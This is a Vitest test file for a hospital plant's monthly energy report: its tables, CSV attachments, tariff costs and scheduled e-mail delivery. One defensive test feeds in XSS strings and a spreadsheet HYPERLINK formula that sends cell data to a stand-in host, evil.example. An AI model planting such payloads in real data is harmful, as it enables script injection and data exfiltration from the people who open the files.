/**
 * The monthly energy report as the energy manager and the department head receive it: built
 * from six weeks of the demo plant's simulated history in a real SQLite store (the second half
 * of September and all of October 2026, Asia/Shanghai), checked against what the energy
 * service says for the same month; then mailed through a real SMTP server on 127.0.0.1 at the
 * configured day and time, once per month, across restarts and an SMTP outage.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DateTime } from 'luxon';
import { pino } from 'pino';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { PlantConfig } from '../../src/config/index.js';
import { HIGH_PEAK_SHARE } from '../../src/energy/cost.js';
import { type Commodity, type CostReport, createEnergy, type EnergyService } from '../../src/energy/index.js';
import { silentLogger } from '../../src/log/index.js';
import { PointBus } from '../../src/points/index.js';
import {
  buildMonthlyReport,
  type MonthlyReport,
  type MonthlyReportSender,
  previousMonth,
  startMonthlyReports,
} from '../../src/reports/monthly.js';
import { reportInChinese, textInChinese } from '../../src/reports/monthly-zh.js';
import { demoEnergy, lastBefore, MINUTE, type TestStore } from '../energy/simulated-store.js';
import { freePort } from '../helpers/modbus-tcp-device.js';
import { plantTime } from '../helpers/plant-time.js';
import { until } from '../helpers/wait.js';
import { leaves, type MailSink, type MimePart, mailingTo, startMailSink } from './mail.js';

const ZONE = 'Asia/Shanghai';
const local = (iso: string) => DateTime.fromISO(iso, { zone: ZONE }).toMillis();
/** The history: from the middle of September to the morning the October report is due. */
const HISTORY_FROM = local('2026-09-16T00:00');
const HISTORY_TO = local('2026-11-01T07:00');
const OCTOBER = { from: local('2026-10-01T00:00'), to: local('2026-11-01T00:00') };
const SEPTEMBER = { from: local('2026-09-01T00:00'), to: local('2026-10-01T00:00') };

const ATTACHMENTS = [
  'electricity-daily-by-building',
  'water-daily-by-building',
  'peak-demand',
  'headroom',
  'intensity',
  'night-flow',
  'retrofit-savings',
  'electricity-cost-by-building',
  'water-cost-by-building',
];

let config: PlantConfig;
let data: TestStore;
let energy: EnergyService;
let report: MonthlyReport;

beforeAll(async () => {
  ({ config, data, energy } = await demoEnergy(
    { from: HISTORY_FROM, to: HISTORY_TO, stepMs: 15 * MINUTE },
    HISTORY_TO,
  ));
  expect(config.energy.timezone).toBe(ZONE);
  report = await buildMonthlyReport(energy, config, '2026-10');
});

afterAll(async () => {
  await data?.close();
});

/** The energy service over the history, its clock standing at `now`. */
function energyAt(plant: PlantConfig, now: number): EnergyService {
  return createEnergy({
    config: plant,
    store: data.store,
    bus: new PointBus(),
    log: silentLogger(),
    now: () => now,
  });
}

// --- reading the report back -------------------------------------------------------------

const unescapeHtml = (text: string) =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');

interface HtmlTable {
  head: string[];
  rows: string[][];
}

/** The tables of the section whose heading starts with `heading`. */
function sectionTables(html: string, heading: string): HtmlTable[] {
  const start = html.indexOf(`<h2>${heading}`);
  if (start < 0) throw new Error(`no section "${heading}" in the report`);
  const next = html.indexOf('<h2>', start + 4);
  const section = html.slice(start, next < 0 ? undefined : next);
  const cells = (row: string, tag: 'th' | 'td') =>
    [...row.matchAll(new RegExp(`<${tag}(?: [^>]*)?>(.*?)</${tag}>`, 'gs'))].map((m) =>
      unescapeHtml(m[1] ?? ''),
    );
  return [...section.matchAll(/<table>(.*?)<\/table>/gs)].map((t) => {
    const [head = '', body = ''] = (t[1] ?? '').split('</thead>');
    return {
      head: cells(head, 'th'),
      rows: [...body.matchAll(/<tr>(.*?)<\/tr>/gs)].map((r) => cells(r[1] ?? '', 'td')),
    };
  });
}

/** "1,234,567": whole units with thousands separators, as the report prints kWh and m³. */
const whole = (value: number) => String(Math.round(value)).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
/** "1,234,567.89": money to the fen. */
const money = (value: number) =>
  value.toLocaleString('en-GB', { minimumFractionDigits: 2, maximumFractionDigits: 2 });

/** RFC 4180 CSV: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (quoted) throw new Error('CSV ends inside a quoted field');
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** A CSV attachment as a spreadsheet reads it: the BOM, then a header and rows of the same width. */
function readCsv(content: string): { header: string[]; rows: string[][] } {
  expect(content.startsWith('\uFEFF'), 'UTF-8 BOM for Excel').toBe(true);
  const [header, ...rows] = parseCsv(content.slice(1));
  if (!header) throw new Error('CSV without a header row');
  for (const row of rows) expect(row).toHaveLength(header.length);
  return { header, rows };
}

const attachment = (r: MonthlyReport, name: string) => {
  const found = r.attachments.find((a) => a.filename === `${name}-${r.month}.csv`);
  if (!found) throw new Error(`no attachment ${name}-${r.month}.csv`);
  return readCsv(found.content);
};

/** Buildings that have a main meter of the commodity, by name. */
const mainBuildings = (commodity: Commodity) => [
  ...new Set(energy.meters.filter((m) => m.commodity === commodity && m.main).map((m) => m.buildingName)),
];

// --- the report ----------------------------------------------------------------------------

describe('buildMonthlyReport over six weeks of simulated history', () => {
  it.each([
    ['electricity', 'Electricity by building'],
    ['water', 'Water by building'],
  ] as const)(
    'lists every building with a %s main meter, with the month as energy.consumption totals it',
    async (commodity, heading) => {
      const query = { commodity, resolution: 'day', groupBy: 'building' } as const;
      const october = await energy.consumption({ ...query, ...OCTOBER });
      const september = await energy.consumption({ ...query, ...SEPTEMBER });
      const [table] = sectionTables(report.html, heading);
      if (!table) throw new Error(`no table under ${heading}`);

      expect(table.head).toEqual(['building', '2026-10', 'month before', 'change', 'notes']);
      expect(table.rows.map((r) => r[0]).sort()).toEqual(mainBuildings(commodity).sort());
      expect(table.rows).toHaveLength(october.rows.length);
      for (const row of october.rows) {
        const earlier = september.rows.find((r) => r.key === row.key);
        if (!earlier) throw new Error(`${row.name} has no September row`);
        // A hospital building uses something every month: a 0 here would hide a broken meter.
        const [now, before] = [row.total ?? Number.NaN, earlier.total ?? Number.NaN];
        expect(now).toBeGreaterThan(0);
        expect(before).toBeGreaterThan(0);
        const printed = table.rows.find((r) => r[0] === row.name);
        expect(printed?.[1], `${row.name}, October`).toBe(whole(now));
        expect(printed?.[2], `${row.name}, September`).toBe(whole(before));
        expect(printed?.[3], `${row.name}, change`).toBe(`${(((now - before) / before) * 100).toFixed(1)} %`);
      }
    },
  );

  it("prints the incomers' October as what their counters rose by over the month", async () => {
    const [table] = sectionTables(report.html, 'Electricity by building');
    for (const [device, building] of [
      ['dr1-incomer', 'Inpatient Building'],
      ['dr2-incomer', 'Outpatient & Medical Technology Building'],
    ] as const) {
      const point = `${device}.energy_kwh`;
      // The last reading of September and of October (no rollover or reset in six weeks).
      const rise =
        (await lastBefore(data.store, point, OCTOBER.to)) -
        (await lastBefore(data.store, point, OCTOBER.from));
      const printed = Number(table?.rows.find((r) => r[0] === building)?.[1]?.replace(/,/g, ''));
      // Within 0.1 %: the history is read every 15 minutes, so the month's edges are only
      // known to the reading before and after them.
      expect(Math.abs(printed - rise) / rise, building).toBeLessThan(0.001);
    }
  });

  it('says when the month before is incomplete, rather than compare October with half a September', () => {
    // The history starts on 16 September: September's figure is half a month's.
    for (const heading of ['Electricity by building', 'Water by building']) {
      const [table] = sectionTables(report.html, heading);
      for (const row of table?.rows ?? []) {
        // October is complete: nothing to note about it.
        expect(row[4], `${row[0]}: notes`).toMatch(/month before/i);
        expect(row[4], `${row[0]}: notes`).toMatch(/\b15 gap/);
        expect(row[4], `${row[0]}: notes`).not.toMatch(/^\d+ gap/);
      }
    }
  });

  it("prices each building's month as energy.cost does: kWh and money per tariff period, the demand charge, the total and kg CO2e, against the month before", async () => {
    const query = { commodity: 'electricity', resolution: 'month', groupBy: 'building' } as const;
    const [october, september] = await Promise.all([
      energy.cost({ ...query, ...OCTOBER }),
      energy.cost({ ...query, ...SEPTEMBER }),
    ]);
    const [periods, bill] = sectionTables(report.html, 'Electricity cost by building');
    // October has no sharp peak (summer and winter only): its columns are the periods used.
    expect(periods?.head).toEqual([
      'building',
      'peak kWh',
      'peak CNY',
      'flat kWh',
      'flat CNY',
      'valley kWh',
      'valley CNY',
      'peak share',
      'month before',
    ]);
    expect(bill?.head).toEqual([
      'building',
      'energy cost (CNY)',
      'max demand kW',
      'demand charge (CNY)',
      'cost (CNY)',
      'month before',
      'change',
      'kg CO₂e',
      'notes',
    ]);
    expect(periods?.rows.map((r) => r[0])).toEqual(october.rows.map((r) => r.name));
    const share = (f: CostReport['total']) => {
      const pct = `${((f.peakShare ?? Number.NaN) * 100).toFixed(1)} %`;
      return (f.peakShare ?? 0) >= HIGH_PEAK_SHARE ? `${pct} (high)` : pct;
    };
    for (const row of october.rows) {
      const [now, before] = [row.total, september.rows.find((r) => r.key === row.key)?.total];
      if (!before) throw new Error(`${row.name} has no September row`);
      const band = (name: string) => now.bands.find((b) => b.band === name);
      expect(periods?.rows.find((r) => r[0] === row.name)?.slice(1), row.name).toEqual([
        ...['peak', 'flat', 'valley'].flatMap((b) => [
          whole(band(b)?.consumption ?? Number.NaN),
          money(band(b)?.cost ?? Number.NaN),
        ]),
        share(now),
        share(before),
      ]);
      const [cost, earlier] = [now.cost ?? Number.NaN, before.cost ?? Number.NaN];
      expect(now.demandCharge).toBeGreaterThan(0);
      expect(bill?.rows.find((r) => r[0] === row.name)?.slice(1), row.name).toEqual([
        money(now.energyCost ?? Number.NaN),
        whole(now.maxDemandKw ?? Number.NaN),
        money(now.demandCharge ?? Number.NaN),
        money(cost),
        money(earlier),
        `${(((cost - earlier) / earlier) * 100).toFixed(1)} %`,
        whole(now.carbonKg ?? Number.NaN),
        // The history starts on 16 September: half of it was not costed, and the report says so.
        expect.stringMatching(/^month before: \d+ h without readings, not costed$/),
      ]);
    }
  });

  it('prices water per building the same way, and names the tariffs and emission factors it used', async () => {
    const water = await energy.cost({
      commodity: 'water',
      ...OCTOBER,
      resolution: 'month',
      groupBy: 'building',
    });
    const [table] = sectionTables(report.html, 'Water cost by building');
    expect(table?.head.slice(0, 3)).toEqual(['building', 'm³', 'cost (CNY)']);
    expect(table?.rows.map((r) => r.slice(0, 3))).toEqual(
      water.rows.map((r) => [
        r.name,
        whole(r.total.consumption ?? Number.NaN),
        money(r.total.cost ?? Number.NaN),
      ]),
    );
    const start = report.html.indexOf('<h2>Tariffs and emission factors');
    expect(start).toBeGreaterThan(report.html.indexOf('<h2>Retrofit savings'));
    const used = unescapeHtml(report.html.slice(start).replace(/<[^>]+>/g, ' ')).replace(/\s+/g, ' ');
    expect(used).toContain(
      'Electricity: time-of-use from 2025-01-01, CNY per kWh: sharp peak 1.2834, peak 1.0695, flat 0.6417, valley 0.2567; demand charge 32 CNY per kW of the month’s maximum demand',
    );
    expect(used).toContain('Water: 4.9 CNY per m³ from 2025-01-01');
    expect(used).toContain(
      'Electricity: 0.5703 kg CO₂e per kWh from 2024-01-01 (national grid average, MEE notice 2024)',
    );
    expect(used).toContain(
      'Water: 0.168 kg CO₂e per m³ from 2024-01-01 (supply and treatment, typical municipal figure)',
    );
  });

  it('attaches the cost tables as CSV, each total line what the HTML prints', async () => {
    for (const commodity of ['electricity', 'water'] as const) {
      const cost = await energy.cost({ commodity, ...OCTOBER, resolution: 'month', groupBy: 'building' });
      const { header, rows } = attachment(report, `${commodity}-cost-by-building`);
      const totals = rows.filter((r) => r[header.indexOf('period')] === 'total');
      expect(totals.map((r) => [r[0], Number(r[header.indexOf('cost (CNY)')])])).toEqual(
        cost.rows.map((r) => [r.name, Math.round((r.total.cost ?? Number.NaN) * 1000) / 1000]),
      );
    }
  });

  it('attaches the nine tables as CSV named with the month, each readable by a spreadsheet', () => {
    expect(report.attachments.map((a) => a.filename)).toEqual(ATTACHMENTS.map((n) => `${n}-2026-10.csv`));
    for (const name of ATTACHMENTS) {
      const { header, rows } = attachment(report, name);
      expect(header.length, name).toBeGreaterThan(1);
      expect(rows.length, name).toBeGreaterThan(0);
    }
  });

  it('has one electricity row per day of October, adding up to the month in the HTML', () => {
    const { header, rows } = attachment(report, 'electricity-daily-by-building');
    const buildings = mainBuildings('electricity');
    expect(header).toEqual([
      'period',
      'start',
      ...buildings.map((b) => `${b} (kWh)`),
      'total (kWh)',
      'notes',
    ]);
    expect(rows.map((r) => r[0])).toEqual(
      Array.from({ length: 31 }, (_, i) => `2026-10-${String(i + 1).padStart(2, '0')}`),
    );
    expect(rows.map((r) => r[1])).toEqual(rows.map((r) => `${r[0]} 00:00`));
    const [table] = sectionTables(report.html, 'Electricity by building');
    buildings.forEach((building, column) => {
      const days = rows.map((r) => Number(r[2 + column]));
      for (const day of days) expect(day).toBeGreaterThan(0);
      const month = days.reduce((a, b) => a + b, 0);
      const printed = Number(table?.rows.find((r) => r[0] === building)?.[1]?.replace(/,/g, ''));
      // Days are rounded to 0.001 kWh in the CSV: 31 of them are within 0.1 kWh of the month.
      expect(Math.abs(month - printed), building).toBeLessThanOrEqual(0.6);
    });
    // Each day's total is the sum of its buildings.
    for (const row of rows) {
      const sum = buildings.reduce((s, _, i) => s + Number(row[2 + i]), 0);
      expect(Number(row[2 + buildings.length])).toBeCloseTo(sum, 2);
    }
  });

  it('never says readings "cover 100 %" of a day they do not fully cover', () => {
    for (const name of ['electricity-daily-by-building', 'water-daily-by-building']) {
      for (const row of attachment(report, name).rows) {
        const notes = row.at(-1) ?? '';
        for (const m of notes.matchAll(/readings cover ([\d.]+) %/g))
          expect(Number(m[1]), `${name} ${row[0]}: ${notes}`).toBeLessThan(100);
      }
    }
  });

  it('has the other tables row for row: incomers, rooms, buildings, meters by night, retrofits', () => {
    const incomers = energy.meters.filter((m) => m.commodity === 'electricity' && m.main).map((m) => m.name);
    expect(attachment(report, 'peak-demand').rows.map((r) => [r[0], r[2]])).toEqual(
      incomers.map((name) => [name, '2026-10']),
    );
    expect(attachment(report, 'headroom').rows.map((r) => r[0])).toEqual([
      'Distribution Room 1 (LV)',
      'Distribution Room 2 (LV)',
    ]);
    const buildings = config.sites.flatMap((s) => s.buildings.map((b) => b.name));
    expect(attachment(report, 'intensity').rows.map((r) => r[1])).toEqual([
      ...buildings,
      ...config.sites.map((s) => s.name),
    ]);
    const watched = config.energy.leaks.meters ?? [];
    expect(watched.length).toBeGreaterThan(0);
    const nights = attachment(report, 'night-flow').rows;
    expect(new Set(nights.map((r) => r[0]))).toEqual(new Set(watched));
    // The last 14 nights of each watched meter, up to the morning the report is built.
    expect(nights).toHaveLength(watched.length * 14);
    expect(nights.filter((r) => r[0] === watched[0]).at(-1)?.[1]).toBe('2026-10-31');
    expect(attachment(report, 'retrofit-savings').rows.map((r) => r[0])).toEqual(
      config.energy.retrofits.map((r) => r.name),
    );
  });

  it('escapes hostile building and site names in the HTML and keeps them inert in the CSV', async () => {
    const script = '<script>alert("pwned")</script>';
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Outpatient")';
    const hostile: PlantConfig = {
      ...config,
      sites: config.sites.map((s) => ({
        ...s,
        name: `${s.name} <img src=x onerror=alert(1)>`,
        buildings: s.buildings.map((b) =>
          b.id === 'inpatient' ? { ...b, name: script } : b.id === 'outpatient' ? { ...b, name: formula } : b,
        ),
      })),
    };
    const hostileEnergy = energyAt(hostile, HISTORY_TO);
    const built = await buildMonthlyReport(hostileEnergy, hostile, '2026-10');

    expect(built.html).not.toMatch(/<script/i);
    expect(built.html).not.toMatch(/<img/i);
    expect(built.html).toContain('&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;');
    // Still named, as written, where the manager reads it.
    const [electricity] = sectionTables(built.html, 'Electricity by building');
    expect(electricity?.rows.map((r) => r[0])).toEqual([script, formula]);

    // A spreadsheet must not run a building's name as a formula, in a header or in a cell.
    for (const a of built.attachments) {
      const { header, rows } = readCsv(a.content);
      for (const cell of [...header, ...rows.flat()])
        if (/^[=+\-@]/.test(cell)) expect(cell, `${a.filename}: ${cell}`).toMatch(/^-\d+(\.\d+)?$/);
    }
    const { header } = attachment(built, 'electricity-daily-by-building');
    expect(header).toContain(`'${formula} (kWh)`);
  });
});

describe('a month still going on, and months without readings', () => {
  const printedRow = (r: MonthlyReport, heading: string, name: string) =>
    sectionTables(r.html, heading)[0]?.rows.find((row) => row[0] === name);

  it('compares a month so far with the same days and hours of the month before, not with all of it', async () => {
    // The store's clock stands at 07:00 on 1 November: November so far is seven hours.
    const built = await buildMonthlyReport(energy, config, '2026-11', HISTORY_TO);
    expect(built.subject).toContain('2026-11 (so far)');
    const so = { from: local('2026-11-01T00:00'), to: HISTORY_TO };
    const same = { from: local('2026-10-01T00:00'), to: local('2026-10-01T07:00') };
    for (const [commodity, heading] of [
      ['electricity', 'Electricity by building'],
      ['water', 'Water by building'],
    ] as const) {
      expect(sectionTables(built.html, heading)[0]?.head).toEqual([
        'building',
        '2026-11-01 00:00–07:00 (so far)',
        '2026-10-01 00:00–07:00',
        'change',
        'notes',
      ]);
      const query = { commodity, resolution: 'day', groupBy: 'building' } as const;
      const [now, before] = await Promise.all([
        energy.consumption({ ...query, ...so }),
        energy.consumption({ ...query, ...same }),
      ]);
      for (const row of now.rows) {
        const a = row.total ?? Number.NaN;
        const b = before.rows.find((r) => r.key === row.key)?.total ?? Number.NaN;
        const printed = printedRow(built, heading, row.name);
        expect(printed?.slice(1, 4), row.name).toEqual([
          whole(a),
          whole(b),
          `${(((a - b) / b) * 100).toFixed(1)} %`,
        ]);
        // The same hours of two ordinary days: nothing like the −99 % of seven hours against a month.
        expect(Math.abs((a - b) / b), row.name).toBeLessThan(0.3);
      }
    }
  });

  it('says "no data" for a month without readings, and gives no change against one', async () => {
    // In January 2027 December has no readings (the history ends on 1 November) and August none either.
    const january = local('2027-01-15T00:00');
    const later = energyAt(config, january);
    const december = await buildMonthlyReport(later, config, '2026-12', january);
    const september = await buildMonthlyReport(later, config, '2026-09', january);
    for (const heading of ['Electricity by building', 'Water by building']) {
      for (const row of sectionTables(december.html, heading)[0]?.rows ?? []) {
        expect(row[1], `${row[0]} in December`).toBe('no data');
        expect(Number(row[2]?.replace(/,/g, '')), `${row[0]} in November`).toBeGreaterThan(0);
        expect(row[3], `${row[0]}: change`).toBe('—');
      }
      for (const row of sectionTables(september.html, heading)[0]?.rows ?? []) {
        expect(row[2], `${row[0]} in August`).toBe('no data');
        expect(row[3], `${row[0]}: change`).toBe('—');
      }
    }
    // Nothing costed either: no data, never 0 CNY or 0 kg.
    const [periods, bill] = sectionTables(december.html, 'Electricity cost by building');
    const [water] = sectionTables(december.html, 'Water cost by building');
    for (const row of [...(periods?.rows ?? []), ...(bill?.rows ?? []), ...(water?.rows ?? [])]) {
      expect(row.length).toBeGreaterThan(1);
      expect(row.join(' | '), row[0]).not.toMatch(/(^|\| )0(\.00)? /);
      expect(row[1], `${row[0]}: December's cost`).toBe('no data');
    }
    expect(bill?.rows.map((r) => r[4])).toEqual(bill?.rows.map(() => 'no data'));
    expect(bill?.rows.map((r) => r[6])).toEqual(bill?.rows.map(() => '—'));
    // The daily CSV: an empty cell and "no data" for every day of December, never 0.
    const { rows } = attachment(december, 'electricity-daily-by-building');
    expect(rows).toHaveLength(31);
    for (const row of rows) {
      expect(row.slice(2, -1), row[0]).toEqual(['', '', '']);
      expect(row.at(-1), row[0]).toMatch(/no data/);
    }
  });
});

// --- mailing it --------------------------------------------------------------------------

interface LogLine {
  level: number;
  msg: string;
  month?: string;
  component?: string;
}
const ERROR = 50;

const liuFang = () => {
  const address = config.notify.people.find((p) => p.id === 'liu-fang')?.email;
  if (!address) throw new Error('liu-fang has no e-mail address in notify.yaml');
  return address;
};

let stateDir: string;
const senders: MonthlyReportSender[] = [];
const sinks: MailSink[] = [];

afterEach(async () => {
  for (const s of senders.splice(0)) s.stop();
  await Promise.all(sinks.splice(0).map((s) => s.close()));
  if (stateDir) rmSync(stateDir, { recursive: true, force: true });
});

/**
 * A sender on an injected clock. `looks()` counts its looks at the clock (two per check);
 * `reports()` the reports it has started to build (each asks for four consumption tables),
 * which shows a send the moment it starts, long before a mail could arrive.
 */
function startSender(port: number, clock: { now: number }, statePath: string) {
  const logs: LogLine[] = [];
  const log = pino({ level: 'debug' }, { write: (line: string) => logs.push(JSON.parse(line) as LogLine) });
  let looks = 0;
  let tables = 0;
  const counting: EnergyService = {
    ...energy,
    consumption: (query) => {
      tables++;
      return energy.consumption(query);
    },
  };
  const sender = startMonthlyReports({
    energy: counting,
    config: mailingTo(config, port),
    log,
    statePath,
    now: () => {
      looks++;
      return clock.now;
    },
    checkEveryMs: 20,
  });
  senders.push(sender);
  return { sender, logs, looks: () => looks, reports: () => tables / 4 };
}

/** Lets the sender check the clock at least `n` more times. */
const afterChecks = (looks: () => number, n: number) => {
  const target = looks() + 2 * n;
  return until(`${n} more checks`, () => looks() >= target, 5000, 5);
};

const mailSink = async (port?: number) => {
  const sink = await startMailSink(port);
  sinks.push(sink);
  return sink;
};

const sentMonths = (statePath: string): unknown =>
  existsSync(statePath) ? JSON.parse(readFileSync(statePath, 'utf8')) : [];

const crlf = (text: string) => text.replace(/\r\n/g, '\n');

function expectReportMail(mail: MimePart, expected: MonthlyReport) {
  // Liu Fang reads Chinese (notify.yaml lang: zh): the report in Chinese, names and all.
  expect(mail.headers.get('subject')).toBe(textInChinese(expected.subject, expected.namesZh));
  expect(mail.headers.get('subject')).toContain(expected.month);
  expect(mail.headers.get('to')).toBe(liuFang());
  expect(mail.headers.get('from')).toBe(config.notify.channels.email?.from);
  const parts = leaves(mail);
  const html = parts.filter((p) => p.type === 'text/html' && !p.filename);
  expect(html).toHaveLength(1);
  expect(crlf(html[0]?.text ?? '')).toBe(crlf(reportInChinese(expected.html, expected.namesZh)));
  const files = parts.filter((p) => p.filename);
  expect(files.map((p) => [p.filename, p.type])).toEqual(
    expected.attachments.map((a) => [a.filename, 'text/csv']),
  );
  files.forEach((file, i) => {
    expect(crlf(file.text), file.filename).toBe(crlf(expected.attachments[i]?.content ?? ''));
  });
}

describe('startMonthlyReports', () => {
  it('mails October at 07:00 on 1 November (plant time) to liu-fang, once, across a restart', async () => {
    stateDir = mkdtempSync(join(tmpdir(), 'plantwatch-monthly-'));
    const statePath = join(stateDir, 'data', 'monthly-reports-sent.json');
    const smtp = await mailSink();
    const clock = { now: plantTime(config, '2026-11-01T06:59') };
    const first = startSender(smtp.port, clock, statePath);

    await afterChecks(first.looks, 5);
    expect(first.reports()).toBe(0);
    expect(smtp.received).toHaveLength(0);
    expect(existsSync(statePath)).toBe(false);

    // 07:00 in Shanghai is still 31 October in UTC: the zone, not the machine, decides.
    clock.now = plantTime(config, '2026-11-01T07:00');
    await until('the October report', () => smtp.received.length > 0);
    await until('the sent month remembered', () =>
      first.logs.some((l) => l.msg === 'monthly energy report sent'),
    );
    const [mail] = smtp.received;
    expect(mail?.envelopeTo).toEqual([liuFang()]);
    expectReportMail(mail?.mail as MimePart, report);
    expect(sentMonths(statePath)).toEqual(['2026-10']);

    // Later checks, later that day and the day after: already sent.
    await afterChecks(first.looks, 5);
    clock.now = plantTime(config, '2026-11-02T09:00');
    await afterChecks(first.looks, 5);
    expect(first.reports()).toBe(1);
    expect(smtp.received).toHaveLength(1);
    first.sender.stop();

    // A restart reads the months sent from the state file.
    clock.now = plantTime(config, '2026-11-01T07:30');
    const second = startSender(smtp.port, clock, statePath);
    await afterChecks(second.looks, 10);
    expect(second.reports()).toBe(0);
    expect(smtp.received).toHaveLength(1);
    expect(second.logs.filter((l) => l.level >= ERROR)).toEqual([]);
  });

  it('logs a send that fails while the SMTP server is down and retries at the next check', async () => {
    stateDir = mkdtempSync(join(tmpdir(), 'plantwatch-monthly-'));
    const statePath = join(stateDir, 'monthly-reports-sent.json');
    const port = await freePort(); // nothing listens here yet
    const clock = { now: plantTime(config, '2026-11-01T07:05') };
    const { logs, looks, reports } = startSender(port, clock, statePath);
    const failures = () =>
      logs.filter((l) => l.level === ERROR && l.month === '2026-10' && /not sent/.test(l.msg));

    await until('a second failed attempt', () => failures().length >= 2, 10_000);
    expect(failures()[0]?.component).toBe('monthly-report');
    expect(existsSync(statePath)).toBe(false);

    const smtp = await mailSink(port);
    await until('the October report once the server is up', () => smtp.received.length > 0, 10_000);
    await until('the sent month remembered', () => logs.some((l) => l.msg === 'monthly energy report sent'));
    expect(smtp.received[0]?.envelopeTo).toEqual([liuFang()]);
    expect(smtp.received[0]?.mail.headers.get('subject')).toContain('2026-10');
    expect(sentMonths(statePath)).toEqual(['2026-10']);
    const built = reports();
    await afterChecks(looks, 5);
    expect(reports()).toBe(built);
    expect(smtp.received).toHaveLength(1);
  });

  it("sends a month on demand (send('2026-09')), before the month's own report is due", async () => {
    stateDir = mkdtempSync(join(tmpdir(), 'plantwatch-monthly-'));
    const statePath = join(stateDir, 'monthly-reports-sent.json');
    const smtp = await mailSink();
    const clock = { now: plantTime(config, '2026-11-01T06:00') };
    const { sender } = startSender(smtp.port, clock, statePath);

    const sent = await sender.send('2026-09');
    expect(sent.month).toBe('2026-09');
    expect(smtp.received).toHaveLength(1);
    expectReportMail(smtp.received[0]?.mail as MimePart, sent);
    expect(sent.attachments.map((a) => a.filename)).toEqual(ATTACHMENTS.map((n) => `${n}-2026-09.csv`));
    expect(attachment(sent, 'electricity-daily-by-building').rows).toHaveLength(30);
    expect(sentMonths(statePath)).toEqual(['2026-09']);
  });
});

describe('previousMonth', () => {
  it.each([
    // 16:30 UTC on 31 December: in UTC the month before would be November.
    ['2027-01-01T00:30', '2026-12'],
    ['2026-11-01T00:30', '2026-10'],
    ['2026-10-31T23:59', '2026-09'],
    ['2026-03-31T23:59', '2026-02'],
  ])('at %s in Shanghai is %s', (at, month) => {
    expect(previousMonth(plantTime(config, at), ZONE)).toBe(month);
  });
});
